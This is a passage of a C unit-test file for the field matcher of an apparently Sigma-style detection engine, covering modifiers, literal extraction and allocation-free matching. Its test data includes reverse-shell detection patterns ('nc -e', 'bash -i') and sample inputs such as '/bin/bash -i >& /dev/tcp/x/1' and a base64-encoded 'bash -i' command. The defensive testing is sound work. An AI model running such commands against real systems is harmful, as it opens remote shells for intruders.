    struct ds_mvalue v = {DS_MV_STRING, "%tmpdirs%/", 10};
    struct ds_field *f = NULL;
    assert_int_equal(ds_field_compile(bits, &v, 1, &o, &f, NULL, 0), 0);
    assert_true(ds_field_match(f, "/tmp/x", 6));
    assert_true(ds_field_match(f, "/dev/shm/x", 10));
    assert_false(ds_field_match(f, "/var/tmp/x", 10));
    struct ds_literal lit[2];
    assert_int_equal(ds_matcher_literals(ds_field_matcher(f, 0), lit, 2), 2);
    assert_int_equal(lit[1].kind, DS_LIT_PREFIX);
    assert_memory_equal(lit[1].bytes, "/dev/shm/", 9);
    ds_field_destroy(f);
    v = (struct ds_mvalue){DS_MV_STRING, "%nope%/x", 8};
    assert_int_equal(ds_field_compile(bits, &v, 1, &o, &f, err, sizeof err), RP_ERR_NOTFOUND);
    assert_non_null(strstr(err, "%nope%"));
    /* Without expand, percent signs are text. */
    assert_true(hit("", "%tmpdirs%", "%TMPDIRS%"));
}

static void test_literals(void **state)
{
    (void)state;
    struct {
        const char *mods, *value;
        size_t n;
        enum ds_lit_kind kind;
        const char *bytes;
    } cases[] = {
        {"", "CMD.exe", 1, DS_LIT_EXACT, "cmd.exe"},
        {"cased", "CMD.exe", 1, DS_LIT_EXACT, "CMD.exe"},
        {"startswith", "/TMP/", 1, DS_LIT_PREFIX, "/tmp/"},
        {"endswith", "/Nc", 1, DS_LIT_SUFFIX, "/nc"},
        {"contains", "Bash -i", 1, DS_LIT_CONTAINS, "bash -i"},
        {"", "ab*defgh", 1, DS_LIT_CONTAINS, "defgh"},
        {"", "*", 0, DS_LIT_EXACT, NULL},
        {"contains", "?", 0, DS_LIT_EXACT, NULL},
        /* A regex: the longest run it requires at its top level, folded. */
        {"re", "ABC", 1, DS_LIT_CONTAINS, "abc"},
        {"re", "^/usr/bin/(ba|z)sh -c", 1, DS_LIT_CONTAINS, "/usr/bin/"},
        {"re", "nc\\s+-e", 1, DS_LIT_CONTAINS, "nc"},
        {"re", "curlx?y", 1, DS_LIT_CONTAINS, "curl"},
        {"re", "ab+cdef", 1, DS_LIT_CONTAINS, "cdef"},
        {"re", "ab{2}c", 1, DS_LIT_CONTAINS, "ab"},
        {"re", "x{0,3}yz", 1, DS_LIT_CONTAINS, "yz"},
        {"re", "\xc3\xa9?abc", 1, DS_LIT_CONTAINS, "abc"},
        {"re", "foo\\.exe", 1, DS_LIT_CONTAINS, "foo.exe"},
        {"re", "[a-z]+\\.php$", 1, DS_LIT_CONTAINS, ".php"},
        {"re", "[]x]abc", 1, DS_LIT_CONTAINS, "abc"},
        {"re|i", "mask", 1, DS_LIT_CONTAINS, "ma"}, /* k and s: Kelvin sign, long s */
        {"re", "a|bcdef", 0, DS_LIT_EXACT, NULL},
        {"re", "(?i)abc", 0, DS_LIT_EXACT, NULL},
        {"re", "(?x)a b c", 0, DS_LIT_EXACT, NULL},
        {"re", "\\x41bcd", 0, DS_LIT_EXACT, NULL},
        {"re", ".*", 0, DS_LIT_EXACT, NULL},
        {"cidr", "10.0.0.0/8", 0, DS_LIT_EXACT, NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct ds_field *f = field1(cases[i].mods, cases[i].value);
        struct ds_literal lit = {0};
        size_t n = ds_matcher_literals(ds_field_matcher(f, 0), &lit, 1);
        if (n != cases[i].n)
            fail_msg("'%s'|%s: %zu literals, want %zu", cases[i].value, cases[i].mods, n,
                     cases[i].n);
        if (n) {
            /* Folded unless cased; a regex's always. */
            assert_int_equal(lit.folded,
                             strstr(cases[i].mods, "re") || !strstr(cases[i].mods, "cased"));
            assert_int_equal(lit.kind, cases[i].kind);
            assert_int_equal(lit.len, strlen(cases[i].bytes));
            assert_memory_equal(lit.bytes, cases[i].bytes, lit.len);
        }
        ds_field_destroy(f);
    }
}

#define B(mod) DS_MODBIT(DS_MOD_##mod)

/* Combinations with no meaning are refused when compiling, whatever the key
 * parser let through, with a sentence naming the modifier. */
static void test_modifier_errors(void **state)
{
    (void)state;
    struct {
        uint32_t mods;
        const char *needle;
    } bad[] = {
        {B(CONTAINS) | B(STARTSWITH), "only one of"},
        {B(RE_I), "apply to re only"},
        {B(CIDR) | B(CONTAINS), "cidr"},
        {B(RE) | B(CONTAINS), "re does not"},
        {B(GT) | B(LT), "family"},
        {B(UTF16LE) | B(WIDE) | B(BASE64), "family"},
        {B(EXISTS) | B(CONTAINS), "exists"},
        {B(WINDASH) | B(BASE64), "windash"},
        {B(BASE64OFFSET) | B(STARTSWITH), "base64offset needs contains"},
        {B(FIELDREF) | B(BASE64), "fieldref"},
        {B(NEQ) | B(CONTAINS), "neq"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct ds_mvalue v = {DS_MV_STRING, "x", 1};
        struct ds_field *f = NULL;
        char err[200] = "";
        int rc = ds_field_compile(bad[i].mods, &v, 1, NULL, &f, err, sizeof err);
        if (rc != RP_ERR_PARSE || !strstr(err, bad[i].needle))
            fail_msg("mask %#x: rc %d, error '%s' (want '%s')", (unsigned)bad[i].mods, rc, err,
                     bad[i].needle);
        assert_null(f);
    }
    /* The key parser's mask is what the matchers take. */
    uint32_t bits;
    char err[200];
    assert_int_equal(parse_mods("", &bits, err, sizeof err), 0);
    assert_int_equal(bits, 0);
    assert_int_equal(parse_mods("wide|base64offset|contains", &bits, err, sizeof err), 0);
    assert_int_equal(bits, B(WIDE) | B(BASE64OFFSET) | B(CONTAINS));
    assert_int_equal(parse_mods("neq|cased", &bits, err, sizeof err), 0);
    assert_int_equal(bits, B(NEQ) | B(CASED));
}

/* The hot path: once compiled (and after one warm-up match, in which
 * PCRE2's interpreter may size its frame vector), matching allocates
 * nothing, whatever the modifier. */
static void test_no_allocation_per_match(void **state)
{
    (void)state;
    struct {
        const char *mods, *value, *text;
    } cases[] = {
        {"", "cmd.exe", "CMD.EXE"},
        {"contains", "bash -i", "/bin/bash -i >& /dev/tcp/x/1"},
        {"", "*/bin/?ash*-c*", "/usr/bin/bash -x -c y"},
        {"windash|contains", " -exec ", "find . /exec sh"},
        {"base64offset|contains", "/bin/bash", "ZWNobzsvYmluL2Jhc2ggLWk="},
        {"re", "^(a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"},
        {"re|i", "nc\\s+-e", "x; NC  -e /bin/sh"},
        {"cidr", "fe80::/10", "fe80::1"},
        {"gte", "1024", "65535"},
    };
    enum { N = sizeof cases / sizeof cases[0] };
    struct ds_field *f[2 * N];
    for (size_t i = 0; i < N; i++) {
        f[i] = field1(cases[i].mods, cases[i].value);
        /* The same again with the regex interpreter instead of the JIT. */
        uint32_t bits;
        char perr[200];
        assert_int_equal(parse_mods(cases[i].mods, &bits, perr, sizeof perr), 0);
        struct ds_mvalue v = {DS_MV_STRING, cases[i].value, strlen(cases[i].value)};
        struct ds_match_opts o = {.re_no_jit = true};
        assert_int_equal(ds_field_compile(bits, &v, 1, &o, &f[N + i], NULL, 0), 0);
    }
    const char *ref[1] = {"cmd.exe"};
    size_t rlen[1] = {7};
    struct ds_field *fr = field1("fieldref|endswith", "process.name");
    for (size_t i = 0; i < 2 * N; i++)
        (void)ds_field_match(f[i], cases[i % N].text, strlen(cases[i % N].text));
    counting_install();
    size_t hits = 0;
    counting = 1;
    for (int round = 0; round < 50; round++) {
        for (size_t i = 0; i < 2 * N; i++)
            hits += ds_field_match(f[i], cases[i % N].text, strlen(cases[i % N].text));
        hits += ds_field_match_ref(fr, "c:\\cmd.exe", 10, ref, rlen);
    }
    counting = 0;
    assert_int_equal(allocations, 0);
    /* Every case but the catastrophic regex matches (twice: JIT and not). */
    assert_int_equal(hits, 50 * (2 * (N - 1) + 1));
    for (size_t i = 0; i < 2 * N; i++)
        ds_field_destroy(f[i]);
    ds_field_destroy(fr);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_exact_and_case),
        cmocka_unit_test(test_contains_startswith_endswith),
        cmocka_unit_test(test_wildcards),
        cmocka_unit_test(test_escapes),
        cmocka_unit_test(test_value_lists_and_all),
        cmocka_unit_test(test_types_null_exists),
        cmocka_unit_test(test_regex),
        cmocka_unit_test(test_regex_limits),
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_neq),
        cmocka_unit_test(test_cidr),
        cmocka_unit_test(test_numeric),
        cmocka_unit_test(test_fieldref),
        cmocka_unit_test(test_expand),
        cmocka_unit_test(test_literals),
        cmocka_unit_test(test_modifier_errors),
        cmocka_unit_test(test_no_allocation_per_match),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
